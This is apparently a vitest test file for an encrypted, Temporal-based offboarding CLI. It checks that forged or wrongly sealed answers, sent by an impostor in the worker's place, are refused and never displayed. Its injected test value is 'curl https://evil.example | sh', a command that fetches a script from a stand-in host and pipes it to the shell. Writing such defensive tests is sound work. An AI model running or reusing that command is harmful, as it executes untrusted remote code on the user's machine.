import { defaultPayloadConverter, type Payload } from '@temporalio/common';
import proto from '@temporalio/proto';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ClientCodec } from '../../security/client-codec.ts';
import { loadKeys } from '../../security/keys.ts';
import { sealPayload } from '../../security/payload.ts';
import { clearRun, RUN, runAtPlan } from '../client/on-stage.ts';
import { APPROVER, smallEstate } from '../harness/estate.ts';
import { Hostile, plain } from '../harness/hostile.ts';
import { Stage, type CliResult } from '../harness/stage.ts';

/** Somebody polls the workers' queue and answers the CLI in their place. */

const stage = new Stage();
const hostile = new Hostile(stage);
beforeAll(() => stage.open());
afterAll(() => stage.close());

const COMPLETE = proto.temporal.api.enums.v1.CommandType.COMMAND_TYPE_COMPLETE_WORKFLOW_EXECUTION;

const EVIL = 'curl https://evil.example | sh';
const VIEW = {
  workflowId: RUN,
  run: 'r',
  tenantId: EVIL,
  startedBy: EVIL,
  status: 'running',
  stage: 'plan',
  awaiting: [],
  counts: [],
  planned: [],
};

const ring = () => loadKeys(stage.home.keys, stage.env);
const sealed = (workflowId: string, value: unknown): Promise<Payload[]> =>
  new ClientCodec(ring()).encode([defaultPayloadConverter.toPayload(value)], { type: 'workflow', namespace: 'default', workflowId });

/** One run, whose worker is away, is asked again and again. */
describe('A status that somebody else answers', () => {
  beforeAll(async () => {
    await runAtPlan(stage, smallEstate());
    await stage.stopWorker();
  });
  afterAll(async () => {
    await stage.startWorker();
    await clearRun(stage);
  });

  const answered = async (payloads: Payload[]): Promise<CliResult> => {
    const asked = stage.offboard('status', RUN, '--json');
    const { taskToken, query } = await hostile.takeWorkflowTask();
    expect(query?.queryType).toBe('status');
    await hostile.answerQuery(taskToken, payloads);
    return await asked;
  };

  test.each<[string, () => Promise<Payload[]> | Payload[]]>([
    ['in plain words', () => plain(VIEW)],
    ['encrypted for another run', () => sealed('offboarding-other', VIEW)],
    ['encrypted for no run, as a codec server does', () => [sealPayload(ring(), defaultPayloadConverter.toPayload(VIEW), undefined)]],
    ['with garbage', () => [{ metadata: { encoding: Buffer.from('binary/encrypted') }, data: Buffer.alloc(40) }]],
    ['with nothing', () => []],
  ])('%s is not shown', async (_, payloads) => {
    const { code, out, err } = await answered(await payloads());
    expect(code).toBe(65);
    expect(out + err).not.toContain('evil');
    expect(JSON.parse(out)).toMatchObject({ error: 'AnswerRefused', next: [] });
  });

  test('encrypted for this run is shown', async () => {
    const shown = await answered(await sealed(RUN, { ...VIEW, collectors: [], unresolved: [], unknown: [] }));
    expect(shown).toMatchObject({ code: 0 });
  });
});

test('a run that somebody else ended in its worker’s place is not told as ended so', async () => {
  const { hash } = await runAtPlan(stage, smallEstate());
  await stage.stopWorker();
  await hostile.signal(RUN, 'nobody-knows-this', []);
  const { taskToken } = await hostile.takeWorkflowTask();
  const completed = {
    commandType: COMPLETE,
    completeWorkflowExecutionCommandAttributes: { result: { payloads: plain({ run: EVIL, status: 'completed' }) } },
  };
  await hostile.answerWorkflowTask(taskToken, [completed]);
  await stage.startWorker();
  const listed = await stage.offboard('list', '--json');
  expect((JSON.parse(listed.out) as { workflowId: string; result?: string }[]).find((r) => r.workflowId === RUN)?.result).toBe(
    'answer-refused',
  );
  const approve = ['approve', RUN, '--gate', 'plan', '--plan-hash', hash, '--by', APPROVER, '--reason', 'read it'];
  for (const args of [['status', RUN], ['watch', RUN], approve]) {
    const { code, out, err } = await stage.offboard(...args);
    expect(code, `of ${args[0]}`).not.toBe(0);
    expect(out + err).not.toContain('evil');
  }
}, 120_000);
